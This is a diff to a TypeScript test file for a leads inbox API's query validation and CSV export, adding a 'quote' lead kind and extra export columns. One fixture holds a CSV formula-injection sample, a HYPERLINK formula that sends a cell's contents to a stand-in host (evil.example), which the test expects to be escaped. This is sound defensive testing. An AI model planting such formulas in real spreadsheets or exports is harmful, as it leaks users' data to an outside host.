@@ -259,7 +259,7 @@ describe('leads inbox API', () => {
     });
 
     it('answers 400 naming the parameter for a bad query, never 500', async () => {
-      const kinds = 'use one of inquiry, contact, brochure.';
+      const kinds = 'use one of inquiry, contact, brochure, quote.';
       const statuses = 'use one of new, contacted, closed, spam.';
       const cases: [string, string][] = [
         ['status=archived', `Invalid query parameter "status": ${statuses}`],
@@ -430,7 +430,7 @@ describe('leads inbox API', () => {
       expect(lines.slice(1).map((line) => line.split(',')[0])).toEqual(['5', '4', '3', '2', '1']);
       const stored = t.handle.store.read().leads.find((lead) => lead.id === 2);
       expect(lines[4]).toBe(
-        `2,contact,contacted,2026-11-10T12:00:00.000Z,Ravi Mehta,RAVI@Works.example,0281-2345678,Need 40 spur gears.,,,sent,,${stored?.ip ?? ''}`,
+        `2,contact,contacted,2026-11-10T12:00:00.000Z,Ravi Mehta,RAVI@Works.example,0281-2345678,Need 40 spur gears.,,,,,,,sent,,${stored?.ip ?? ''}`,
       );
     });
 
@@ -442,7 +442,7 @@ describe('leads inbox API', () => {
       );
       // Lead 4: a formula as name, '@' message, '+' phone; notes with a line break.
       expect(lines[2]).toContain(
-        `,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",mallory@example.net,'+1 555 0100 22,'@SUM(1+1),"Called, wants a quote.\nFollow up Monday.",`,
+        `,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",mallory@example.net,'+1 555 0100 22,'@SUM(1+1),,,,,"Called, wants a quote.\nFollow up Monday.",`,
       );
       // Lead 1: '+' phone.
       expect(lines[5]).toContain(",Asha Patel,asha@example.com,'+91 98765-43210,,");
